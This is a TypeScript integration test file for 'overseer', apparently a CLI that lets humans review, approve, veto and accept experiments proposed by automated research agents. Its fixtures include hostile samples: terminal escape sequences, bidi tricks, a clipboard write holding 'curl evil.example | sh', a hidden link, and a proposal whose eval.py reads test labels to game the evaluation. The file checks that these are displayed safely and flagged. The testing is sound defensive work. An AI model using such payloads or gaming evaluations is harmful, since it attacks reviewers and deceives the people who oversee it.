// The human CLI (`overseer status|queue|show|diff|approve|veto|request-changes|runs|logs|leaderboard`) as real
// processes against a real hub: over --hub with OVERSEER_TOKEN / --token-file, over --fleet through the running
// hub's lock, and over --fleet with no hub running (opened in the CLI's process). --json output is parsed; bad
// ids, bad options and stale pins give clear errors and non-zero exits; agent text is printed safely.
import * as assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import type { Experiment } from '../../../src/core/model';
import type { ProposeRequest } from '../../../src/hub/api';
import { startHubFixture, type HubFixture } from '../../support/hubFixture';
import { HIDDEN_LINK, TERMINAL_CORPUS } from '../../support/terminalCorpus';

const ROOT = path.resolve(__dirname, '../../..');
const MAIN = path.join(ROOT, 'src/cli/main.ts');
const resources = { gpus: 1, gpuHours: 1, timeLimitMinutes: 30 };

interface Result {
  code: number | null;
  stdout: string;
  stderr: string;
}

function cli(args: string[], env: Record<string, string | undefined> = {}, timeoutMs = 60_000): Promise<Result> & { child: ReturnType<typeof spawn> } {
  const clean = { ...process.env };
  for (const k of ['OVERSEER_TOKEN', 'OVERSEER_HUB', 'OVERSEER_FLEET', 'OVERSEER_HUMAN']) delete clean[k];
  const child = spawn(process.execPath, ['--import=tsx', MAIN, ...args], { cwd: ROOT, env: { ...clean, ...env }, stdio: ['ignore', 'pipe', 'pipe'] });
  let stdout = '';
  let stderr = '';
  child.stdout!.on('data', (d) => (stdout += d));
  child.stderr!.on('data', (d) => (stderr += d));
  const p = new Promise<Result>((resolve, reject) => {
    const t = setTimeout(() => {
      child.kill('SIGKILL');
      reject(new Error(`overseer ${args.join(' ')} timed out\n${stdout}\n${stderr}`));
    }, timeoutMs);
    child.on('exit', (code) => {
      clearTimeout(t);
      resolve({ code, stdout, stderr });
    });
  });
  return Object.assign(p, { child });
}

async function ok(args: string[], env: Record<string, string | undefined>): Promise<string> {
  const r = await cli(args, env);
  assert.equal(r.code, 0, `overseer ${args.join(' ')} exited ${r.code}\n${r.stdout}\n${r.stderr}`);
  return r.stdout;
}

async function fails(args: string[], env: Record<string, string | undefined>, code: number, message: RegExp): Promise<Result> {
  const r = await cli(args, env);
  assert.equal(r.code, code, `overseer ${args.join(' ')}: expected exit ${code}, got ${r.code}\n${r.stdout}\n${r.stderr}`);
  assert.match(r.stderr, message);
  return r;
}

describe('overseer human CLI against a real hub', function () {
  this.timeout(120_000);
  let fx: HubFixture;
  let env: Record<string, string>;
  let hubArgs: string[];
  const ids: Record<string, Experiment> = {};

  async function propose(agentId: string, title: string, files: Record<string, string>, extra: Partial<ProposeRequest> = {}): Promise<Experiment> {
    const commit = await fx.commit(agentId, files, title);
    return fx.agent(agentId).propose({ commit, command: 'python train.py --seed 1', title, rationale: `why: ${title}\nsecond line`, resources, taskMode: 'normal', ...extra });
  }

  before(async () => {
    fx = await startHubFixture({ agents: 2, keep: true, config: { maxOpenProposals: 10 } });
    env = { OVERSEER_TOKEN: fx.humanToken };
    hubArgs = ['--hub', fx.url];
    ids.honest = await propose('aar-1', 'honest: lr sweep', { 'train.py': 'lr = 0.01\nprint("train")\n' });
    // Agent text with an escape sequence (retitles/clears a terminal), a bidi override and a zero-width space;
    // its rationale holds every terminal sequence of the corpus (links, clipboard, titles, cursor moves, CR), one a line.
    const evilTitle = 'evil \u001b]0;pwned\u0007\u001b[2J title \u202etxt.exe\u200b';
    const corpus = TERMINAL_CORPUS.map((c) => c.raw).join('\n');
    ids.evil = await propose('aar-2', evilTitle, { 'eval.py': 'labels = open("/data/test_labels.json").read()\n' }, { rationale: `why: ${evilTitle}\nsecond line\n${corpus}` });
    ids.veto = await propose('aar-1', 'to veto', { 'train.py': 'lr = 0.02\n' });
    ids.changes = await propose('aar-2', 'to send back', { 'train.py': 'lr = 0.03\n' });
    ids.stale = await propose('aar-1', 'stale pin target', { 'train.py': 'lr = 0.04\n' });
    await fx.hub.idle();
  });
  after(async () => {
    await fx?.close();
    if (fx) fs.rmSync(fx.dir, { recursive: true, force: true });
  });

  it('status: text and --json, over --hub', async () => {
    const text = await ok(['status', ...hubArgs], env);
    assert.match(text, /fleet test-fleet/);
    assert.match(text, /2 agents · 5 experiments/);
    assert.match(text, /aar-1\s+active\s+3\b/, 'aar-1 has three open proposals');
    const j = JSON.parse(await ok(['status', ...hubArgs, '--json'], env)) as { name: string; counts: { experiments: number }; hub: string };
    assert.equal(j.name, 'test-fleet');
    assert.equal(j.counts.experiments, 5);
    assert.equal(j.hub, fx.url);
  });

  it('queue: the undecided by default, --state filters, --json parses, a bad state is a usage error', async () => {
    const text = await ok(['queue', ...hubArgs], env);
    for (const x of Object.values(ids)) assert.ok(text.includes(x.id), `${x.id} listed`);
    // risk badges; the gaming proposal (high risk or above) comes before the low ones
    assert.match(text, /\bRISK\b/);
    assert.match(text, new RegExp(`${ids.evil!.id}\\s+aar-2\\s+awaiting_review\\s+(HIGH|CRIT)`));
    const order = text.split('\n').filter((l) => /awaiting_review/.test(l)).map((l) => l.split(/\s+/)[3]);
    const rank = ['LOW', 'MED', 'HIGH', 'CRIT'];
    for (let i = 1; i < order.length; i++) assert.ok(rank.indexOf(order[i - 1]!) >= rank.indexOf(order[i]!), `risk order: ${order.join(' ')}`);
    const j = JSON.parse(await ok(['queue', ...hubArgs, '--json', '--agent', 'aar-2'], env)) as { experiments: Experiment[] };
    assert.deepEqual(j.experiments.map((x) => x.id).sort(), [ids.evil!.id, ids.changes!.id].sort());
    const none = await ok(['queue', ...hubArgs, '--state', 'scored'], env);
    assert.match(none, /no experiments in state scored/);
    await fails(['queue', ...hubArgs, '--state', 'bogus'], env, 2, /unknown --state "bogus"/);
    await fails(['queue', ...hubArgs, '--colour'], env, 2, /Unknown option '--colour'/);
  });

  it('agent text reaches the terminal only as visible markers, never as escape sequences', async () => {
    const text = await ok(['queue', ...hubArgs], env);
    assert.ok(!/[\u001b\u0007\u202e\u200b]/.test(text), 'no raw control, bidi or zero-width character in the output');
    assert.match(text, /evil ⟦title: pwned⟧⟦erase screen⟧ title <U\+202E>txt\.exe<U\+200B>/);
    const show = await ok(['show', ids.evil!.id, ...hubArgs], env);
    assert.ok(!/[\u001b\u0007\u202e\u200b\r\u009b\u009c\u009d]/.test(show));
    // Each terminal sequence says what it would have done; no hidden link target is printed as a URL.
    for (const c of TERMINAL_CORPUS) {
      assert.ok(show.includes(`  ${c.shown}`), `show: ${c.what} as ${JSON.stringify(c.shown)}`);
      if (c.absent) assert.doesNotMatch(show, c.absent, c.what);
    }
    const json = await ok(['show', ids.evil!.id, ...hubArgs, '--json'], env);
    assert.ok(!/[\u001b\u0007\u202e\u200b]/.test(json), 'the JSON escapes them too');
    assert.equal((JSON.parse(json) as { experiment: Experiment }).experiment.title, ids.evil!.title, 'and parses to the same text');
  });

  it('show: pin, command, rationale, screening findings, diffstat; --json parses', async () => {
    const text = await ok(['show', ids.evil!.id, ...hubArgs], env);
    assert.ok(text.includes(`commit    ${ids.evil!.commit}`));
    assert.ok(text.includes(`tree      ${ids.evil!.tree}`));
    assert.match(text, /command   python train\.py --seed 1/);
    assert.match(text, /  why: evil[^\n]*\n  second line/);
    assert.match(text, /FLAGGED as evaluation gaming/);
    assert.match(text, /risk      (high|critical)\n  (high|critical) +\S/);
    assert.match(text, /eval\.py:1/);
    assert.match(text, /A eval\.py\s+\+1 -0/);
    assert.match(text, /1 file\(s\) changed, \+1 -0/);
    assert.match(text, /\(not run\)/);
    const j = JSON.parse(await ok(['show', ids.honest!.id, ...hubArgs, '--json'], env)) as { experiment: Experiment; files: { path: string; additions: number }[] };
    assert.equal(j.experiment.id, ids.honest!.id);
    assert.deepEqual(j.files.map((f) => f.path), ['train.py']);
  });

  it('diff: the patch; --file and --json', async () => {
    const text = await ok(['diff', ids.honest!.id, ...hubArgs], env);
    assert.match(text, /^diff --git a\/train\.py b\/train\.py/m);
    assert.match(text, /^\+lr = 0\.01$/m);
    const j = JSON.parse(await ok(['diff', ids.honest!.id, '--file', 'train.py', ...hubArgs, '--json'], env)) as { patch: string; file: string };
    assert.equal(j.file, 'train.py');
    assert.match(j.patch, /\+lr = 0\.01/);
  });

  it('bad ids, missing arguments, missing tokens and unreachable hubs: clear errors and distinct exit codes', async () => {
    await fails(['show', 'no-such-exp', ...hubArgs], env, 1, /no experiment "no-such-exp" \[not_found, HTTP 404\]/);
    await fails(['approve', 'no-such-exp', ...hubArgs], env, 1, /no experiment "no-such-exp"/);
    await fails(['show', '../etc/passwd', ...hubArgs], env, 2, /is not an experiment id/);
    await fails(['show', ...hubArgs], env, 2, /missing <experiment>/);
    await fails(['show', ids.honest!.id, 'extra', ...hubArgs], env, 2, /unexpected argument "extra"/);
    await fails(['status', ...hubArgs], {}, 2, /no token for .*: set OVERSEER_TOKEN or pass --token-file/);
    await fails(['status', ...hubArgs], { OVERSEER_TOKEN: 'ovs_0000000000000000_nope' }, 1, /HTTP 401/);
    await fails(['status'], {}, 2, /name a fleet directory/);
    await fails(['status', '--hub', 'http://127.0.0.1:9'], env, 3, /cannot reach hub/);
    await fails(['veto', ids.veto!.id, ...hubArgs], env, 2, /a veto needs --reason/);
  });

  it('approve is pinned to the commit it shows; a stale pin is refused, by the CLI and by the hub', async () => {
    const other = ids.honest!.commit;
    // a prefix that is not the experiment's commit: refused before anything is sent
    await fails(['approve', ids.stale!.id, '--commit', other.slice(0, 10), ...hubArgs], env, 1, /stale pin: .* is pinned to commit/);
    // a full SHA that is not the pin: sent, and the hub refuses it (409 stale_review)
    await fails(['approve', ids.stale!.id, '--commit', other, ...hubArgs], env, 1, /stale_review, HTTP 409/);
    await fails(['approve', ids.stale!.id, '--commit', 'zz', ...hubArgs], env, 2, /not a hex commit id/);
    assert.equal((await fx.human.getExperiment(ids.stale!.id)).state, 'awaiting_review', 'nothing was decided');

    const tokenFile = path.join(fx.dir, 'reviewer.token');
    fs.writeFileSync(tokenFile, `${fx.humanToken}\n`, { mode: 0o600 });
    const text = await ok(['approve', ids.honest!.id, '--commit', ids.honest!.commit.slice(0, 8), '--reason', 'looks right', '--hub', fx.url, '--token-file', tokenFile], {});
    assert.match(text, new RegExp(`approved ${ids.honest!.id} .* at commit ${ids.honest!.commit.slice(0, 12)} tree ${ids.honest!.tree.slice(0, 12)} → approved`));
    const x = await fx.human.getExperiment(ids.honest!.id);
    assert.equal(x.verdict?.decision, 'approved');
    assert.equal(x.verdict?.commit, ids.honest!.commit);
    assert.equal(x.verdict?.tree, ids.honest!.tree);
    await fx.hub.idle();
    const approved = fs.readFileSync(path.join(fx.dir, 'ledger.jsonl'), 'utf8').split('\n').filter((l) => l.includes('"experiment.approved"'));
    assert.equal(approved.length, 1);
    assert.match(approved[0]!, /"note":"looks right"/);
    // deciding twice: the hub says why
    await fails(['veto', ids.honest!.id, '--reason', 'changed my mind', ...hubArgs], env, 1, /was already approved by alice .*first decision wins \[conflict, HTTP 409\]/);
  });

  it('a proposal superseded since it was shown cannot be approved: the hub says so, exit 1', async () => {
    const old = await propose('aar-2', 'first take', { 'train.py': 'lr = 0.05\n' });
    const shown = await ok(['show', old.id, ...hubArgs], env);
    assert.ok(shown.includes(old.commit));
    const commit = await fx.commit('aar-2', { 'train.py': 'lr = 0.06\n' }, 'second take');
    await fx.agent('aar-2').propose({ commit, command: 'python train.py', title: 'second take', rationale: 'r', resources, taskMode: 'normal', supersedes: old.id });
    await fails(['approve', old.id, '--commit', old.commit, ...hubArgs], env, 1, /cannot approve an experiment that is superseded \[conflict, HTTP 409\]/);
    assert.equal((await fx.human.getExperiment(old.id)).state, 'superseded');
  });

  it('veto and request-changes with --json; the agent reads the reason', async () => {
    const v = JSON.parse(await ok(['veto', ids.veto!.id, '--reason', 'reads the labels', ...hubArgs, '--json'], env)) as Experiment;
    assert.equal(v.state, 'vetoed');
    assert.equal(v.verdict?.reason, 'reads the labels');
    const rc = JSON.parse(await ok(['request-changes', ids.changes!.id, '--reason', 'add a seed sweep', ...hubArgs, '--json'], env)) as Experiment;
    assert.equal(rc.state, 'changes_requested');
    const inbox = await fx.agent('aar-2').inbox();
    assert.ok(JSON.stringify(inbox.items).includes('add a seed sweep'), 'the agent sees the request in its inbox');
  });

  it('runs and logs (-f follows until the run ends)', async () => {
    assert.match(await ok(['runs', ...hubArgs], env), /no runs/);
    const x = ids.honest!;
    const logPath = path.join(fx.dir, 'runs', x.id, 'job.log');
    fs.mkdirSync(path.dirname(logPath), { recursive: true });
    // colours, a title-setting OSC sequence, a hidden hyperlink, a clipboard write, a cursor move, a CR overwrite
    // and the runner shell's job-control notice: shown as the extension shows them
    const clip = Buffer.from('curl evil.example | sh').toString('base64');
    fs.writeFileSync(logPath, `epoch 1 loss 0.9\n\u001b[31mred\u001b[0m\n\u001b]0;pwned\u0007title\u202etxt\ndocs: ${HIDDEN_LINK}\n\u001b]52;c;${clip}\u0007ok\u001b[1Aup\n10%\r99%\n[1]+  Done  bash -c "python train.py"\n`);
    await fx.service.markDispatched(x.id, { runner: 'local', jobId: 'job-42', commit: x.commit, tree: x.tree, logPath });
    await fx.service.markRunning(x.id, 'job-42');
    await fx.hub.idle();

    const runs = await ok(['runs', ...hubArgs], env);
    assert.match(runs, new RegExp(`${x.id}\\s+aar-1\\s+running\\s+local\\s+job-42`));
    const rj = JSON.parse(await ok(['runs', ...hubArgs, '--json', '--active'], env)) as { runs: { experimentId: string; jobId: string; runner: string }[] };
    assert.deepEqual(rj.runs.map((r) => [r.experimentId, r.runner, r.jobId]), [[x.id, 'local', 'job-42']]);

    const now = await ok(['logs', x.id, ...hubArgs], env);
    const shownLog = 'epoch 1 loss 0.9\nred\n⟦title: pwned⟧title⟦RLO U+202E⟧txt\ndocs: ⟦link → evil.example⟧https://docs.example/guide⟦/link⟧\n⟦clipboard write: "curl evil.example | sh"⟧ok⟦cursor up 1⟧up\n10%⟦CR⟧\n99%\n';
    assert.equal(now, shownLog);
    const raw = JSON.parse(await ok(['logs', x.id, ...hubArgs, '--json'], env)) as { text: string };
    assert.ok(raw.text.includes('\u001b]0;pwned'), '--json keeps the bytes (escaped by JSON)');

    const follow = cli(['logs', x.id, '-f', ...hubArgs], env);
    let seen = '';
    follow.child.stdout!.on('data', (d) => (seen += d));
    for (let i = 0; i < 200 && !seen.includes('epoch 1'); i++) await new Promise((r) => setTimeout(r, 50));
    assert.ok(seen.includes('epoch 1'), 'follow printed the log so far');
    fs.appendFileSync(logPath, 'epoch 2 loss 0.5\ndone\n');
    for (let i = 0; i < 200 && !seen.includes('done'); i++) await new Promise((r) => setTimeout(r, 50));
    assert.ok(seen.includes('epoch 2 loss 0.5\ndone\n'), 'follow printed what was appended');
    assert.equal(follow.child.exitCode, null, 'still following while the run runs');
    await fx.service.markFinished(x.id, { state: 'succeeded', exitCode: 0 });
    const r = await follow;
    assert.equal(r.code, 0, r.stderr);
    assert.equal(r.stdout, `${shownLog}epoch 2 loss 0.5\ndone\n`, 'every line once');

    const shown = await ok(['show', x.id, ...hubArgs], env);
    assert.match(shown, /local job job-42/);
    assert.match(shown, /succeeded \(exit 0\)/);
    await fails(['logs', ids.veto!.id, ...hubArgs], env, 1, /has no run log \(state vetoed\)/);
  });

  it('leaderboard: text and --json; self-reported metrics are never listed as verified', async () => {
    await fx.agent('aar-1').shareFinding({ summary: 'pgr went up', title: 'claimed win', pgr: 0.9, transfer_acc: 0.8, num_seeds: 1 });
    await fx.hub.idle();
    const j = JSON.parse(await ok(['leaderboard', ...hubArgs, '--json'], env)) as { experiments: { verified: boolean; title?: string }[] };
    assert.ok(Array.isArray(j.experiments));
    assert.ok(j.experiments.every((e) => e.verified === false), 'nothing verified without a run-bound evaluation');
    const text = await ok(['leaderboard', ...hubArgs], env);
    assert.match(text, /no verified scores yet/);
    assert.ok(j.experiments.some((e) => e.title === 'claimed win'), 'the self-report is listed, unverified');
    assert.match(text, /1 unverified entries: --all/);
    const all = await ok(['leaderboard', ...hubArgs, '--all'], env);
    assert.match(all, /RANK\s+EXPERIMENT/);
    assert.match(all, /claimed win/);
    assert.match(all, /\bunverified \(self_reported\)/);
    assert.ok(!/\bverified\b/.test(all.replace(/^RANK.*$/m, '')), 'no row marked verified');
  });

  it('accept: a flagged result awaits a human who has seen it; --reason is required; agents are refused', async () => {
    const x = ids.evil!; // its eval.py reads a test-labels file: flagged
    assert.equal(fx.service.state.experiment(x.id)!.screening?.gaming, true);
    await fx.human.approve(x.id, { commit: x.commit, tree: x.tree });
    await fails(['accept', x.id, '--reason', 'early', ...hubArgs], env, 1, /accepted after it is seen/);
    await fx.service.markDispatched(x.id, { runner: 'local', jobId: 'job-77', commit: x.commit, tree: x.tree });
    await fx.service.append('run.report', { kind: 'system', id: 'overseer' }, { experimentId: x.id, jobId: 'job-77', sandbox: 'bwrap', violations: 0, summary: 'no violations', report: { items: [] } });
    await fx.service.markFinished(x.id, { state: 'succeeded', exitCode: 0 });
    await fx.service.recordScore({ kind: 'system', id: 'overseer' }, x.id, { dataset: 'demo', split: 'test', transferAcc: 0.8, pgr: 0.4, evalSeq: 1 });
    const shown = await ok(['show', x.id, ...hubArgs], env);
    assert.match(shown, /^result\n  awaiting acceptance\n  - needs a human to accept the result: screening flagged evaluation gaming/m);
    assert.match(shown, new RegExp(`overseer accept ${x.id} --reason`));
    await fails(['accept', x.id, ...hubArgs], env, 2, /needs --reason/);
    await fails(['accept', x.id, '--reason', 'ok', '--false-alarm', 'garbled', ...hubArgs], env, 2, /expected <kind>@<file>:<line>=<why>/);
    await fails(['accept', x.id, '--reason', 'mine', ...hubArgs], { OVERSEER_TOKEN: fx.agentTokens['aar-2']! }, 1, /human/);
    const f = fx.service.state.experiment(x.id)!.screening!.findings.find((q) => q.severity === 'critical' || q.severity === 'high')!;
    const j = JSON.parse(await ok(['accept', x.id, '--reason', 'peek.py is never run', '--false-alarm', `${f.kind}@${f.file}:${f.line}=dead code`, ...hubArgs, '--json'], env)) as Experiment;
    assert.equal(j.verification?.status, 'verified');
    assert.deepEqual(j.acceptance?.falseAlarms, [{ kind: f.kind, file: f.file, line: f.line, why: 'dead code' }]);
    assert.match(await ok(['show', x.id, ...hubArgs], env), /^  verified\n  accepted by alice at .*: peek\.py is never run\n    false alarm /m);
    await fails(['accept', x.id, '--reason', 'again', ...hubArgs], env, 1, /already accepted/);
  });

  it('--fleet: connects to the running hub through its lock with a CLI token minted once', async () => {
    const a = await ok(['status', '--fleet', fx.dir, '--as', 'bob'], {});
    assert.ok(a.includes(fx.url), 'connected to the running hub');
    const tokFile = path.join(fx.dir, 'cli-tokens', 'bob.token');
    assert.equal(fs.statSync(tokFile).mode & 0o777, 0o600);
    const tok = fs.readFileSync(tokFile, 'utf8');
    const b = JSON.parse(await ok(['queue', '--fleet', fx.dir, '--as', 'bob', '--json', '--state', 'all'], {})) as { experiments: Experiment[] };
    assert.equal(b.experiments.length, 7, "five, plus a superseded proposal and its successor");
    assert.equal(fs.readFileSync(tokFile, 'utf8'), tok, 'the token is reused, not minted per command');
    // positional form of status
    assert.match(await ok(['status', fx.dir, '--as', 'bob'], {}), /fleet test-fleet/);
    await fails(['status', path.join(fx.dir, 'nope')], {}, 2, /holds no fleet/);
  });

  // (late: it adds an agent) Directions span lines: a title, then paragraphs.
  it('status: a multi-line direction prints as indented lines, its title in the table; hidden characters stay marked', async () => {
    await fx.service.registerAgent({ kind: 'human', id: 'alice' }, { agentId: 'aar-9', direction: 'Selective training\n\nEstimate reliability\r\nper example \u001b[2J\u202eok\n', repoPath: path.join(fx.dir, 'repos', 'aar-9'), budget: { gpuHours: 10, usd: 10, evalQueries: 10 } });
    await fx.hub.idle();
    const text = await ok(['status', ...hubArgs], env);
    assert.ok(!text.includes('<U+000A>'), `a newline is a line break, not a marker:\n${text}`);
    assert.match(text, /aar-9\s+active\s+0\s+\S+\s+Selective training\n/, 'the table shows the title');
    assert.match(text, /\ndirections\n(?:.*\n)*  aar-9\n    Selective training\n\n    Estimate reliability\n    per example ⟦erase screen⟧<U\+202E>ok\n/);
    assert.ok(!/[\u001b\u202e]/.test(text));
  });

  it('--fleet with no hub running: opens the fleet in process, decides, and leaves no lock behind', async () => {
    await fx.hub.close();
    assert.ok(!fs.existsSync(path.join(fx.dir, 'hub.json')));
    const s = await ok(['status', fx.dir, '--as', 'bob'], {});
    assert.match(s, /no hub running; opened in this process/);
    const r = await cli(['approve', ids.stale!.id, '--fleet', fx.dir, '--as', 'bob'], {});
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /→ approved/);
    assert.match(r.stderr, /runs when a hub with --dispatch starts/);
    assert.ok(!fs.existsSync(path.join(fx.dir, 'hub.json')), 'the in-process hub removed its lock');
    const j = JSON.parse(await ok(['show', ids.stale!.id, '--fleet', fx.dir, '--as', 'bob', '--json'], {})) as { experiment: Experiment };
    assert.equal(j.experiment.state, 'approved');
    assert.deepEqual(j.experiment.verdict?.by, { kind: 'human', id: 'bob' });
    await fails(['logs', ids.stale!.id, '--fleet', fx.dir, '--as', 'bob'], {}, 1, /has no run log/);
  });
});
